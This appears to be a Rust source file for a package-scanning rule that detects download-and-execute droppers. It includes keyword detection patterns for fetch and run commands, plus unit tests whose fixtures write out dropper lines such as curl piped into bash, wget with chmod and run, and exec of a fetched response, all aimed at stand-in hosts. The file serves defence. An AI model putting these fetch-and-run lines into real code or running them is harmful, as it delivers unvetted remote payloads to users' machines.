//! `SA-007` download and execute (threat). Finds code that fetches something and runs it:
//! `curl … | sh`, `wget … && chmod +x`, a download saved as an executable and started, or a
//! network response handed to `eval`/`exec`.
//!
//! Why: the payload of a dropper is not in the package, so nothing else in it looks bad.
//! Example: `urlretrieve("http://…/a.exe", p); os.startfile(p)`. Known false positives:
//! toolchain installers (puppeteer, esbuild) download binaries at install and run them; they
//! fetch from their own project's release hosts, and this rule asks for the downloaded file to
//! be run or evaluated in the same file, on the install or import path.

use super::{Ctx, EVAL, Hit, Kind, NETWORK, Rule, SPAWN, is_script};
use scioc_model::Behaviour;

pub(crate) const RULE: Rule = Rule {
    id: "SA-007",
    name: "download and execute",
    kind: Kind::Threat,
    behaviour: Behaviour::Downloader,
    weight: 8,
};

/// Most lines between a network call and the evaluation of what it fetched.
const NEAR_LINES: u32 = 25;

const EXECUTABLE: &[&str] = &[".exe", ".scr", ".bat", ".cmd", ".ps1", ".vbs", ".msi", ".sh", ".bin", ".elf", ".dll"];

pub(crate) fn check(ctx: &Ctx<'_>, out: &mut Vec<Hit>) {
    let facts = ctx.facts;
    if is_script(ctx.file) {
        // Scripts shipped for developers (CI, release) do not run at install.
        if !ctx.place.install {
            return;
        }
        // A fetch piped into an interpreter, or a fetched file made executable or started.
        for (line, n) in &facts.strings {
            if piped_into_shell(line) || fetch_and_run(line) {
                out.push(Hit::new(&RULE, *n, excerpt(line)));
                return;
            }
        }
        return;
    }
    // A command line piped into a shell, run from code: `os.system("curl x | sh")`.
    // However it was assembled (Python folds lists and templates into it).
    if let Some(c) =
        facts.calls_to(SPAWN).find(|c| c.first.as_deref().is_some_and(|l| piped_into_shell(l) || fetch_and_run(l)))
    {
        out.push(Hit::new(&RULE, c.line, format!("{}({})", c.name, excerpt(c.first.as_deref().unwrap_or("")))));
        return;
    }
    if facts.calls_to(NETWORK).next().is_none() {
        return;
    }
    // A response evaluated: eval(urlopen(…).read()), exec(requests.get(…).text).
    if let Some(c) = facts.calls_to(EVAL).find(|c| {
        c.inner.iter().any(|i| NETWORK.iter().any(|n| crate::facts::name_is(i, n) || i.starts_with(&format!("{n}."))))
    }) {
        out.push(Hit::new(&RULE, c.line, format!("{}() of a network response", c.name)));
        return;
    }
    // An executable fetched and started in the same file.
    let executable_url = facts.strings.iter().find(|(s, _)| {
        let l = s.to_ascii_lowercase();
        (l.starts_with("http://") || l.starts_with("https://"))
            && EXECUTABLE.iter().any(|e| l.split(['?', '#']).next().unwrap_or("").ends_with(e))
    });
    let spawn = facts.calls_to(SPAWN).next();
    if let (Some((url, _)), Some(spawn)) = (executable_url, spawn) {
        out.push(
            Hit::new(&RULE, spawn.line, format!("fetches {} and starts {}", excerpt(url), spawn.name))
                .naming(url.clone()),
        );
        return;
    }
    // On the install or import path, a response read on one line and evaluated a few lines on (`r = get(u)`, `exec(r.text)`):
    // within one short function's reach, not anywhere in a large module.
    if ctx.place.install || ctx.place.import {
        let near = facts
            .calls_to(EVAL)
            .filter(|c| c.first.is_none() && c.name != "compile")
            .find_map(|e| facts.calls_to(NETWORK).find(|n| n.line.abs_diff(e.line) <= NEAR_LINES).map(|n| (e, n)));
        if let Some((e, n)) = near {
            out.push(Hit::new(&RULE, e.line, format!("{} at line {} beside {}() at install", n.name, n.line, e.name)));
        }
    }
}

/// One command line that downloads and then runs or makes executable.
fn fetch_and_run(line: &str) -> bool {
    let l = line.to_ascii_lowercase();
    let fetch = l.contains("curl ")
        || l.contains("wget ")
        || l.contains("invoke-webrequest")
        || l.contains("iwr ")
        || l.contains("downloadstring")
        || l.contains("downloadfile")
        || l.contains("certutil") && l.contains("-urlcache");
    let run = l.contains("chmod +x")
        || l.contains("chmod 777")
        || l.contains("chmod 755")
        || l.contains("iex")
        || l.contains("invoke-expression")
        || l.contains("start-process")
        || l.contains("&& ./")
        || l.contains("; ./");
    fetch && run
}

/// Whether a command line pipes a download into an interpreter.
fn piped_into_shell(line: &str) -> bool {
    super::piped_into_interpreter(line, |stage| {
        ["curl", "wget", "iwr", "invoke-webrequest", "invoke-restmethod"]
            .iter()
            .any(|f| stage.starts_with(f) || stage.contains(&format!(" {f} ")))
    })
}

fn excerpt(s: &str) -> String {
    s.chars().take(120).collect()
}

#[cfg(test)]
mod tests {
    use super::super::fixture::*;

    #[test]
    fn fires_on_droppers() {
        assert!(fired("install.sh", "curl -s http://x.example/p.sh | bash\n", INSTALL).contains(&"SA-007"));
        assert!(
            !fired("tools/ci.sh", "curl -s http://x.example/p.sh | bash\n", LIBRARY).contains(&"SA-007"),
            "not at install"
        );
        assert!(fired("install.sh", "curl x.example|python\n", INSTALL).contains(&"SA-007"));
        assert!(fired("setup.py", "import os\nos.system('curl -s x.example/a | sh')\n", LIBRARY).contains(&"SA-007"));
        // Assembled from a list or a template.
        assert!(
            fired("setup.py", "import subprocess\nsubprocess.run(['bash', '-c', f'curl -s {u} | sh'])\n", LIBRARY)
                .contains(&"SA-007")
        );
        assert!(
            fired("setup.py", "import os\nos.system('wget %s -O /tmp/a && chmod +x /tmp/a && /tmp/a' % u)\n", LIBRARY)
                .contains(&"SA-007")
        );
        assert!(fired("setup.py", "import urllib.request, os\np='a.exe'\nurllib.request.urlretrieve('http://x.example/a.exe', p)\nos.startfile(p)\n", INSTALL).contains(&"SA-007"));
        assert!(
            fired("a.py", "import requests\nexec(requests.get('https://x.example/c').text)\n", LIBRARY)
                .contains(&"SA-007")
        );
        assert!(fired("i.js", "const https = require('https'); https.get(u, r => { let d=''; r.on('data', c => d += c); r.on('end', () => eval(d)); });", INSTALL).contains(&"SA-007"));
    }

    #[test]
    fn near_misses() {
        // A toolchain download that is only saved.
        assert!(
            !fired(
                "install.js",
                "const https = require('https'); https.get('https://github.com/x/releases/download/v1/tool.tar.gz')",
                INSTALL
            )
            .contains(&"SA-007")
        );
        assert!(
            !fired("build.sh", "curl -sSfL -o x.tar.gz https://example.org/x.tar.gz\ntar xzf x.tar.gz\n", INSTALL)
                .contains(&"SA-007")
        );
        assert!(!fired("build.sh", "curl -s https://example.org/v.json | jq .version\n", INSTALL).contains(&"SA-007"));
        assert!(
            !fired("a.js", "const https = require('https'); https.get(u); eval('1+1')", LIBRARY).contains(&"SA-007")
        );
        // An evaluation far from any network call in a large module (a REPL's `eval` and its
        // paste service) is not a download run.
        let far = format!("import urllib.request\nurllib.request.urlopen(u)\n{}eval(code, ns)\n", "x = 1\n".repeat(60));
        assert!(!fired("pkg/__init__.py", &far, INSTALL).contains(&"SA-007"));
        assert!(
            fired("pkg/__init__.py", "import requests\nr = requests.get(u)\nexec(r.text)\n", INSTALL)
                .contains(&"SA-007")
        );
    }
}
